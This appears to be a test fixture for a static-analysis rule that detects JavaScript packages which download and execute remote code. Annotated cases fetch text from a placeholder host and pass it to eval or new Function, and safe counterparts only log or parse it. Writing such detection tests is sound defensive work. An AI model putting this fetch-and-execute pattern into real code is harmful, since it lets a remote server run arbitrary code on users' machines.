async function f() {
  const text = await fetch("https://example.invalid/x");
  // ruleid: pkg-js-remote-code
  eval(await text.text());
  // ok: pkg-js-remote-code
  console.log(text);
}
async function g() {
  const { data } = await axios.get("https://example.invalid/x");
  // ruleid: pkg-js-remote-code
  new Function("require", data)(require);
  // ok: pkg-js-remote-code
  JSON.parse(data);
}
